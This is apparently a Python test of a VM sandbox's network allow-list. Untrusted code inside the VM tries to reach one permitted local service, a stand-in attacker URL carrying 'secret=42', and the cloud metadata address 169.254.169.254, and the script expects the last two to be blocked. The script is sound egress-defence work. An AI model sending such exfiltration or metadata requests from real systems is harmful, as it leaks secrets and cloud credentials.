"""Code that nobody trusts may reach one host, by its name, and nothing else. In the end the log says what it tried.

The host is this one, where a small service stands for an API. An allow-list says `api.example.org` in its place.
"""

from __future__ import annotations

import http.server
import os
import socket
import sys
import threading
from contextlib import contextmanager
from typing import TYPE_CHECKING

import vmfork

if TYPE_CHECKING:
    from collections.abc import Iterator

CODE = """
import sys, urllib.request
for url in sys.argv[1:]:
    try:
        said = urllib.request.urlopen(url, timeout=30).read().decode()
    except OSError as error:
        said = str(error)
    print(f"{url}: {said}")
"""


class Service(http.server.BaseHTTPRequestHandler):
    """Gives everybody the same answer."""

    def do_GET(self) -> None:
        self.send_response(200)
        self.send_header("Content-Length", "2")
        self.end_headers()
        self.wfile.write(b"42")

    def log_message(self, *_: object) -> None:
        """Nothing is told."""


@contextmanager
def serving(address: str) -> Iterator[int]:
    """The port of the service, until the block ends."""
    with http.server.ThreadingHTTPServer((address, 0), Service) as server:
        thread = threading.Thread(target=server.serve_forever)
        thread.start()
        try:
            yield server.server_port
        finally:
            server.shutdown()
            thread.join()


def run_code(template: vmfork.Template, name: str, address: str, port: int) -> bool:
    # The address is named as well: it is one of this host's, to which no name leads by itself.
    policy = vmfork.Allow(f"{name}:{port}", f"{address}:{port}")
    urls = [f"http://{name}:{port}/", "http://evil.example/?secret=42", "http://169.254.169.254/latest/meta-data/"]
    with template.fork(network=policy) as vm:
        print(vm.exec(["python3", "-c", CODE, *urls], timeout_s=60, check=True).stdout, end="")
        for decision in vm.network_log:
            print(decision)
        return [decision.allowed for decision in vm.network_log] == [True, False, False]


def main() -> int:
    name = socket.gethostname()
    try:
        address = socket.gethostbyname(name)
    except OSError:
        print(f"{name}, this host's own name, leads to no address: give it one in /etc/hosts")
        return 1
    template = vmfork.Template.build(f"one-host-{os.getpid()}")
    try:
        with serving(address) as port:
            return 0 if run_code(template, name, address, port) else 1
    finally:
        template.remove()


if __name__ == "__main__":
    sys.exit(main())
